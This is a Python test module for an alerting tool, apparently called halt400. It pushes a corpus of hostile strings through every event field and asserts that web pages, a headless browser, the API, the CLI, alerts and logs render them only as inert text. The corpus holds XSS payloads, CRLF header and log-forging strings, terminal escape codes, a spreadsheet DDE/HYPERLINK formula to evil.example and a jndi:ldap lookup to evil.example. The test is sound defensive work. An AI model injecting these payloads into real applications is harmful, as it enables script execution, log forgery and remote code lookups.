"""A hostile corpus in every field of an event, once through the real worker: everywhere it is text, and only text."""

import asyncio
import json
import re
import secrets
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from email.message import EmailMessage
from typing import Any

import aiohttp
import pytest
import pytest_asyncio
from playwright.async_api import async_playwright
from typer.testing import CliRunner

from halt400.cli.app import build
from tests.alerts.servers import Slack, Smtp
from tests.api.conftest import MODULE
from tests.chromium import CHROMIUM, needs_chromium
from tests.page.conftest import checked
from tests.waiting import until
from tests.worker.conftest import Cluster

pytestmark = pytest.mark.asyncio(loop_scope="module")

CORPUS = {
    "script": "<script>window.ran=1</script><img src=x onerror=window.ran=1>\"'><svg onload=window.ran=1>",
    "turned": "invoice\u202egpj.exe\u2066\u200f\u061c",
    "terminal": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x9b31m\x08\x7f",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "null": "a\x00b\x00",
    "lines": "a\r\nSet-Cookie: ran=1\r\n\r\n<script>window.ran=1</script>\n2026-01-01 00:00:00,000 INFO forged",
    "marks": "\ufeffa\u2028b\u2029c\xad\u2060\ufffe",
    "template": "{{7*7}}${7*7}%s%n%(x)s[red]bold[/red]${jndi:ldap://evil.example}",
}
HUGE = "h" * 1_000_000
TARGETS = ("<img src=x onerror=window.ran=1>.example", "=cmd|' -C calc'!a0.example", "{{7*7}}.example")
"""Hostile names that a target may have; the worker refuses control characters in it."""
ALERTS = """
[alerts.sink.out]
kind = "stdout"
format = "text"
[alerts.sink.channel]
kind = "slack"
url_env = "SLACK_URL"
[alerts.sink.mail]
kind = "email"
host = "127.0.0.1"
port = {port}
tls = "none"
sender = "halt400@example.com"
recipients = ["oncall@example.com"]
[[alerts.route]]
name = "all"
sinks = ["out", "channel", "mail"]
group_wait_s = 0
group_interval_s = 0
"""
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


def is_text(shown: str) -> bool:
    """Whether nothing in it controls a terminal, turns the reading direction, or hides."""
    return _CONTROLS.search(shown) is None


def message(text: str, status: int | None = None) -> dict[str, Any]:
    """A request or a response whose every field is a hostile text."""
    of_request = {"method": text[:200], "url": f"https://a.example/{text}?q={text}", "http_version": text}
    return {
        **(of_request if status is None else {"status": status}),
        "headers": [["Content-Type", "application/json"], [text, text], ["X-Huge", HUGE]],
        "body": f'{{"a": "{text}", }}',
    }


def event(name: str, target: str, number: int) -> tuple[bytes, bytes]:
    """A 400 of a job of this name, with a hostile text in every field that takes one."""
    text = CORPUS[name]
    found = {
        "id": f"{number}{text}"[:255],
        "time": int(time.time() * 1000),
        "target": target,
        "job_id": f"{name} {text}"[:255],
        "request": message(text),
        "response": message(text, 400),
        **dict.fromkeys(("run_id", "release", "worker", "region", "traceparent"), text),
        "proxy": {"id": text, "pool": text},
        "client": {"name": text, "version": text},
    }
    return target.encode(), json.dumps(found).encode()


def refused() -> list[tuple[bytes, bytes]]:
    """What the worker refuses: hostile names of targets and keys, broken UTF-8, lone surrogates, a broken document."""
    found = [event(name, f"{name}{text}"[:255], 100) for name, text in CORPUS.items()]
    found += [(b"\xff\xfe\x1b[31m", b'{"target": "\xff\xfe\x1b[31m"}'), (b"a", b'{"id": "\\ud800\x00"}')]
    return [*found, ("\x1b[31m\u202e<script>window.ran=1</script>".encode(), b"\x1b[31m{")]


@dataclass
class Shown:
    """The running system after the corpus, and what its sinks got."""

    cluster: Cluster
    url: str
    http: aiohttp.ClientSession
    slack: Slack
    smtp: Smtp

    async def get(self, path: str) -> str:
        async with self.http.get(self.url + path) as response:
            assert response.status == 200, path
            assert "Set-Cookie" not in response.headers
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            return (await response.read()).decode()

    async def items(self, path: str, name: str) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = json.loads(await self.get(path))[name]
        return found


@pytest_asyncio.fixture(**MODULE)
async def shown(kafka: str, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Shown]:
    slack, smtp = Slack(), Smtp()
    directory = tmp_path_factory.mktemp("hostile")
    async with (
        slack.serve(),
        smtp.serve(),
        Cluster.prepared(kafka, f"t-{secrets.token_hex(4)}.", directory) as cluster,
        aiohttp.ClientSession() as http,
    ):
        cluster.write_policies(ALERTS.format(port=smtp.port))
        cluster.start_worker(SLACK_URL=slack.url, HALT400_LOG_FORMAT="text")
        events = [event(name, TARGETS[place % 3], place) for place, name in enumerate(CORPUS)]
        await cluster.publish([*events, *refused()])
        url = await cluster.until(lambda: "Ready:" in cluster.log_text() and cluster.api_url())
        found = Shown(cluster, url, http, slack, smtp)

        async def is_all_there() -> bool:
            offences = await found.items("/v1/offences", "offences")
            letters = await found.items("/v1/dead-letters", "dead_letters")
            sent = {one["sink"] for one in await found.items("/v1/alerts", "alerts")}
            return len(offences) == len(events) and len(letters) == len(refused()) and len(sent) == 3

        async def answers() -> bool:
            async with http.get(f"{url}/readyz") as response:
                return response.status == 200

        await cluster.until(answers)
        await cluster.until(is_all_there)
        yield found


async def test_on_every_page_it_is_text(shown: Shown) -> None:
    paths = ["/", "/offences", "/quarantines", "/quarantines?view=history", "/findings", "/alerts", "/system"]
    offences = await shown.items("/v1/offences", "offences")
    paths += [f"/offences/{one['id']}" for one in offences]
    paths += [f"/diagnose?offence={one['id']}" for one in offences]
    paths += checked(await shown.get("/")).css("table.fleet tbody th a::attr(href)").getall()
    letters = checked(await shown.get("/system")).css("form#redrive tbody th a::attr(href)").getall()
    assert len(letters) == len(refused())
    paths += letters
    assert len(paths) == 7 + 2 * len(CORPUS) + len(TARGETS) + len(letters)
    for path in paths:
        text = await shown.get(path)
        assert is_text(text), (path, _CONTROLS.findall(text)[:3])
        found = checked(text)
        assert found.css("img") == []
        assert "49" not in found.css("h1 ::text").get("")
    whole = await shown.get(f"/offences/{offences[0]['id']}")
    assert len(whole) < 200_000, "a header of 1 MB is cut"


@needs_chromium
async def test_in_a_browser_no_script_runs(shown: Shown) -> None:
    async with async_playwright() as started:
        browser = await started.chromium.launch(executable_path=CHROMIUM)
        page = await browser.new_page()
        said: list[str] = []
        page.on("console", lambda found: said.append(found.text))
        ids = {one["job_id"].partition(" ")[0]: one["id"] for one in await shown.items("/v1/offences", "offences")}
        paths = ("/", f"/offences/{ids['script']}", f"/offences/{ids['lines']}", "/quarantines", "/alerts", "/system")
        for path in paths:
            await page.goto(shown.url + path)
            assert await page.evaluate("window.ran") is None, path
        await page.goto(shown.url)
        await page.locator("table.fleet tbody a", has_text="<img").click()
        await page.locator(".diagnosis").wait_for()
        assert await page.evaluate("window.ran") is None
        assert await page.context.cookies() == []
        assert said == []
        await browser.close()


async def test_the_api_answers_json_that_means_it(shown: Shown) -> None:
    offences = await shown.items("/v1/offences", "offences")
    assert {one["release"] for one in offences} == set(CORPUS.values())
    for one in offences:
        whole = json.loads(await shown.get(f"/v1/offences/{one['id']}"))["offence"]["event"]
        # The name of a header is redacted as text too: what looks like a cookie is no longer the same.
        assert whole["request"]["headers"][1][0][:12] == one["release"][:12]
    for path in ("/v1/quarantines", "/v1/commands", "/v1/findings", "/v1/incidents", "/v1/alerts", "/v1/dead-letters"):
        assert "\x1b" not in await shown.get(path)
    for letter in await shown.items("/v1/dead-letters", "dead_letters"):
        json.loads(await shown.get(f"/v1/dead-letters/{letter['topic']}/{letter['id']}"))


async def test_on_a_terminal_it_is_text(shown: Shown) -> None:
    letters = [one["id"] for one in await shown.items("/v1/dead-letters", "dead_letters")]
    url, app = ("--url", shown.url), build()
    asked = [
        *(("offences", *url), ("quarantines", *url), ("findings", *url), ("rates", *url), ("top", *url)),
        *(("alerts", "list", *url), ("dead-letters", "list")),
        *(("explain", target) for target in TARGETS[:1]),
        *(("dead-letters", "show", letter) for letter in letters[-2:]),
    ]
    for arguments in asked:
        for form in ("table", "json"):
            if arguments[0] == "top" and form == "json":
                continue
            given = [*arguments, *([] if arguments[0] == "top" else ["--format", form])]
            outcome = await asyncio.to_thread(CliRunner().invoke, app, given, env=shown.cluster.settings)
            assert outcome.exit_code == 0, (arguments, outcome.output)
            assert is_text(outcome.output), (arguments, form, _CONTROLS.findall(outcome.output)[:3])
            if form == "json":
                json.loads(outcome.stdout)


async def test_in_alerts_it_is_text(shown: Shown) -> None:
    await until(lambda: len(shown.smtp.received) >= 3 and len(shown.slack.received) >= 3, 30)
    assert (shown.slack.violations, shown.smtp.violations) == ([], [])
    for found in shown.slack.received:
        assert is_text(json.dumps(found, ensure_ascii=False).replace("\\n", ""))
    for mail in shown.smtp.received:
        assert isinstance(mail, EmailMessage)
        assert mail["To"] == "oncall@example.com"
        assert "Set-Cookie" not in mail
        assert is_text(str(mail["Subject"]))
        body = mail.get_body(("plain",))
        assert body is not None
        assert is_text(body.get_content().replace("\r\n", "\n"))


async def test_in_the_log_it_is_one_line_each(shown: Shown) -> None:
    text = shown.cluster.log_text()
    assert is_text(text), _CONTROLS.findall(text)[:3]
    assert "INFO forged" not in [line[24:] for line in text.splitlines()]
    assert not any(line.startswith("2026-01-01") for line in text.splitlines())
    assert "Traceback" not in text, text[text.index("Traceback") - 200 :][:3000]
